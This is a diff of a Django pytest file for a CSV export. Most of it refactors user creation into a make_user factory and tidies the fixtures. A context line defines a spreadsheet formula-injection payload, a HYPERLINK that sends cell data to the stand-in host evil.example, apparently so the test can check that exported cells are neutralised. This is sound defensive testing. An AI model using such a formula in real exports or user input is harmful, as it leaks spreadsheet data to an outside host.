@@ -6,11 +6,11 @@ import json
 from decimal import Decimal
 
 import pytest
-from django.contrib.auth.models import Group, User
 from django.test import Client
 
 from deliveries.csv_export import csv_cell
 
+from ..factories import make_user
 from ..helpers import fixture_bytes
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
@@ -40,15 +40,14 @@ def hostile_message(post_smstake) -> None:
     assert post_smstake(json.dumps(body).encode()).status_code == 200
 
 
-def rows_of(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
+def rows_of(response) -> list[list[str]]:
     assert response.status_code == 200
     return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
 
 
 @pytest.fixture
 def manager() -> Client:
-    user = User.objects.create_user("meera", password="x", is_staff=True)
-    user.groups.add(Group.objects.get(name="Campaign manager"))
+    user = make_user("Campaign manager", username="meera")
     client = Client()
     client.force_login(user)
     return client
